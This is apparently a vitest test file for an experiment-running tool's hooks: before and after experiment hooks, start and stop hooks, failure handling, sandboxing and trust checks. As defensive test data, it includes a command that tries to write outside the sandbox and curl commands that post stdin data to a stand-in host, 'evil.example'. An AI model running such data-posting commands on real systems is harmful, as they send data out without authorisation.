// Hooks (issue #25, config.hooks): real runs with real hook commands under the sandbox as shipped. A before-hook's
// output reaches the next proposal's prompt (the claude proposer against the fake Messages API, which records every
// request); an after-hook gets each experiment's record on stdin; the run's start and stop hooks run once each; a
// failing hook is a notice with its log and the run goes on, unless failStopsRun stops it.
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createClaudeProposer } from '../../src/core/agent/claude/claude-proposer.js';
import type { Proposer } from '../../src/core/agent/proposer.js';
import { readRunRecord } from '../../src/core/journal/read.js';
import { startRun } from '../../src/core/loop/start-run.js';
import { assertTrusted, readTrustSync, trustProjectSync, UntrustedProjectError } from '../../src/core/project/trust.js';
import type { ProjectConfigInput } from '../../src/shared/config.js';
import { byTurn, finalText, lastToolResults, message, promptOf, startFakeAnthropic, toolUse, view, type FakeReply, type FakeRequest } from '../fixtures/fake-anthropic/server.js';
import { cleanupTempDirs, git, scoredProject, TEST_TMP } from '../helpers/project.js';
import { scriptedProposer, setConst } from '../helpers/scripted-proposer.js';

afterEach(cleanupTempDirs);

const NODE = `"${process.execPath}"`;
const KEY = 'sk-ant-hooks-KEY-7d21c0';

// Reads its record from stdin and advises the agent, naming what it read (so the prompt proves the stdin too).
const BEFORE_HOOK = `import { readFileSync } from 'node:fs';
const input = JSON.parse(readFileSync(0, 'utf8'));
const prev = input.previous;
console.log('Hook advice after ' + input.run.experiments + ' experiments: #' + prev.id + ' was ' + prev.status + ', so try a learning rate near 0.08');
`;
// Appends its stdin to state/<name>.jsonl (the linked state folder, writable here: readOnlyInputs false).
const RECORD_HOOK = `import { appendFileSync, readFileSync } from 'node:fs';
appendFileSync('state/' + process.argv[2] + '.jsonl', readFileSync(0, 'utf8'));
`;

type HookInput = Record<string, unknown> & { hook: string; run: Record<string, unknown> };
const readLines = (file: string): HookInput[] => (existsSync(file) ? readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as HookInput) : []);

async function runWith(hooks: ProjectConfigInput['hooks'], proposer: Proposer, maxExperiments: number, files: Record<string, string> = {}) {
  // One at a time (queueDepth 0): a before-hook's note reaches the proposal made after it, and with one slot
  // working ahead (the default) the next proposal is already made when the hook runs; these tests read the note
  // in the very next prompt, and their scripted edits each build on the previous keep.
  const { dir, state } = scoredProject({ acceptance: { baselineRuns: 1 }, hooks, agent: { queueDepth: 0 } } as never, { 'hooks/record.mjs': RECORD_HOOK, 'hooks/before.mjs': BEFORE_HOOK, ...files }, { state: true });
  const handle = await startRun({ projectDir: dir, tag: 't', maxExperiments, deps: { env: process.env, nodePath: process.execPath, appVersion: 'test', createProposer: async () => proposer } });
  const outcome = await handle.done;
  return { dir, state, outcome, record: await readRunRecord(dir, 't'), runDir: handle.runDir };
}

/** Replace the current value of `const NAME = ...;` that the model saw in its last view. */
function setConstFromView(req: FakeRequest, name: string, value: string): FakeReply {
  const seen = lastToolResults(req).map((r) => r.content).join('\n');
  const m = new RegExp(`const ${name} = [^;]+;`).exec(seen);
  if (!m) return finalText(`could not find ${name} in what I saw`);
  return message([toolUse({ command: 'str_replace', path: 'train.mjs', old_str: m[0], new_str: `const ${name} = ${value};` })]);
}

describe('hooks', () => {
  it("a before-hook's output is a steering note in the next proposal's prompt, made from the record it read on stdin", async () => {
    const scripts: Record<number, readonly (FakeReply | ((req: FakeRequest) => FakeReply))[]> = {
      1: [view('train.mjs'), (req) => setConstFromView(req, 'LEARNING_RATE', '0.02'), finalText('Double the learning rate\nToo small.')],
      2: [view('train.mjs'), (req) => setConstFromView(req, 'LEARNING_RATE', '0.04'), finalText('Raise the learning rate to 0.04\nStill small.')],
    };
    const experimentOf = (req: FakeRequest) => Number(/# Experiment (\d+)/.exec(promptOf(req))?.[1] ?? -1);
    const api = await startFakeAnthropic({ apiKey: KEY, handler: (req) => byTurn(scripts[experimentOf(req)] ?? [finalText('no script')])(req) });
    try {
      const { record, outcome } = await runWith({ beforeExperiment: { command: `${NODE} hooks/before.mjs` } }, createClaudeProposer({ apiKey: KEY, baseUrl: api.url }), 2);
      expect(outcome.reason).toBe('max-experiments');
      const first = api.requests.filter((r) => r.turn === 0 && experimentOf(r) === 1).map(promptOf);
      const second = api.requests.filter((r) => r.turn === 0 && experimentOf(r) === 2).map(promptOf);
      expect(first).toHaveLength(1);
      expect(second).toHaveLength(1);
      // Before #1 the slot's last experiment was the baseline (kept); before #2 it was #1, as the journal has it.
      expect(first[0]).toContain('From the before-experiment hook: Hook advice after 0 experiments: #0 was keep, so try a learning rate near 0.08');
      expect(second[0]).toContain(`Hook advice after 1 experiments: #1 was ${record.experiments.get(1)!.status}, so try`);
      expect(first[0]).not.toContain('Hook advice after 1 experiments');
      expect(record.steering.map((s) => s.note).filter((n) => n.startsWith('From the before-experiment hook'))).toHaveLength(2);
    } finally {
      await api.close();
    }
  });

  it('an after-hook gets each experiment as JSON on stdin; the start and stop hooks run once each with the run figures', async () => {
    const proposer = scriptedProposer([setConst('LEARNING_RATE', '0.02'), setConst('MODE', '1')]);
    const { state, record, outcome } = await runWith(
      { afterExperiment: { command: `${NODE} hooks/record.mjs after` }, runStart: { command: `${NODE} hooks/record.mjs start` }, runStop: { command: `${NODE} hooks/record.mjs stop` } },
      proposer,
      2,
    );
    expect(outcome.reason).toBe('max-experiments');
    const after = readLines(path.join(state, 'after.jsonl'));
    expect(after.map((a) => a.hook)).toEqual(['afterExperiment', 'afterExperiment']);
    const experiments = after.map((a) => a.experiment as Record<string, unknown>);
    expect(experiments.map((e) => e.id)).toEqual([1, 2]);
    for (const e of experiments) {
      const journaled = record.experiments.get(e.id as number)!;
      expect(e).toMatchObject({ status: journaled.status, metric: journaled.metric, description: journaled.description, commit: journaled.commit, baseId: journaled.baseId });
      expect((e.timings as Record<string, unknown>).totalMs).toBe(journaled.timings.totalMs);
    }
    expect(experiments.map((e) => e.status)).toEqual(['keep', 'crash']);
    // The figures are the run's when the hook ran: one experiment done after #1, two after #2.
    expect(after.map((a) => a.run.experiments)).toEqual([1, 2]);

    const start = readLines(path.join(state, 'start.jsonl'));
    const stop = readLines(path.join(state, 'stop.jsonl'));
    expect(start).toHaveLength(1);
    expect(start[0]).toMatchObject({ hook: 'runStart', resumed: false, run: { tag: 't', experiments: 0 } });
    expect(stop).toHaveLength(1);
    expect(stop[0]).toMatchObject({ hook: 'runStop', reason: 'max-experiments', run: { experiments: 2, kept: 1, bestId: 1, best: record.best } });
    // Each hook's process was journaled like any command of the run, and none is left open.
    expect(record.openProcesses.size).toBe(0);
  });

  it('a failing hook (or one past its limit) is a notice naming its log, and the run goes on; a hook is sandboxed', async () => {
    const proposer = scriptedProposer([setConst('LEARNING_RATE', '0.02'), setConst('LEARNING_RATE', '0.04')]);
    // The start hook runs in the sandbox like the trainer: the app's folder in the project is read-only to it.
    const { dir, record, outcome, runDir } = await runWith(
      { afterExperiment: { command: 'echo "hook broke: no webhook"; exit 3' }, runStart: { command: 'echo pwned > .autoresearch/hook-wrote-here' }, runStop: { command: 'sleep 30', timeoutSeconds: 1 } },
      proposer,
      2,
    );
    expect(existsSync(path.join(dir, '.autoresearch', 'hook-wrote-here'))).toBe(false);
    expect(record.notices.find((n) => n.message.startsWith('The runStart hook'))?.message).toMatch(/exited with code \d+; see logs\/hooks\/runStart-.*\.log/);
    expect(outcome.reason).toBe('max-experiments');
    expect([1, 2].map((id) => record.experiments.get(id)?.status)).toEqual(['keep', 'keep']);
    const notices = record.notices.filter((n) => n.message.includes('afterExperiment hook'));
    expect(notices.map((n) => n.level)).toEqual(['warning', 'warning']);
    expect(notices[0]!.message).toContain('exited with code 3; see logs/hooks/afterExperiment-1.log');
    expect(notices[0]!.message).toContain('The run goes on');
    expect(readFileSync(path.join(runDir, 'logs/hooks/afterExperiment-2.log'), 'utf8')).toContain('hook broke: no webhook');
    // A hook past its limit is killed (its whole group) and said so; the run still ends as it would have.
    expect(record.notices.find((n) => n.message.startsWith('The runStop hook'))?.message).toMatch(/^The runStop hook \(sleep 30\) was killed after its 1 s limit; raise hooks\.timeoutSeconds/);
    expect(record.stopReason).toBe('max-experiments');
  });

  it('failStopsRun stops the run with a clear message: for one hook, or for all', async () => {
    // The before-hook fails after the baseline: no candidate starts, and the run says why.
    const one = await runWith({ beforeExperiment: { command: 'echo "lookup failed" >&2; exit 2', failStopsRun: true } }, scriptedProposer([setConst('LEARNING_RATE', '0.02')]), 2);
    expect(one.outcome.reason).toBe('error');
    expect(one.outcome.message).toMatch(/^The beforeExperiment hook failed, and hooks\.failStopsRun stops the run when it does: The beforeExperiment hook \(.*\) exited with code 2/);
    expect([...one.record.experiments.keys()]).toEqual([0]);
    expect(one.record.notices.find((n) => n.level === 'error')?.message).toContain('lookup failed');

    // The section's failStopsRun covers every hook: a start hook that fails ends the run before the baseline.
    const all = await runWith({ failStopsRun: true, runStart: { command: 'exit 1' } }, scriptedProposer([setConst('LEARNING_RATE', '0.02')]), 1);
    expect(all.outcome.reason).toBe('error');
    expect(all.outcome.message).toContain('The runStart hook failed');
    expect(all.record.experiments.size).toBe(0);
  });

  it('a hook is a command trust approves: adding or changing one needs trust again', async () => {
    const { dir } = scoredProject();
    const data = mkdtempSync(path.join(TEST_TMP, 'ar-hooks-trust-'));
    try {
      trustProjectSync(data, dir);
      expect(readTrustSync(data, dir).state).toBe('trusted');
      const file = path.join(dir, '.autoresearch', 'config.json');
      const config = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
      writeFileSync(file, JSON.stringify({ ...config, hooks: { afterExperiment: { command: 'curl -d @- https://example.com/hook' } } }));
      git(dir, 'commit', '-qam', 'add a hook');
      const report = readTrustSync(data, dir);
      expect(report.state).toBe('changed');
      expect(report.items.find((i) => i.key === 'hooks.afterExperiment')).toMatchObject({ text: 'curl -d @- https://example.com/hook', changed: true });
      await expect(assertTrusted(data, dir, 'cli')).rejects.toThrow(UntrustedProjectError);
      trustProjectSync(data, dir);
      writeFileSync(file, JSON.stringify({ ...config, hooks: { afterExperiment: { command: 'curl -d @- https://evil.example/hook' } } }));
      expect(readTrustSync(data, dir).state).toBe('changed');
    } finally {
      rmSync(data, { recursive: true, force: true });
    }
  });
});
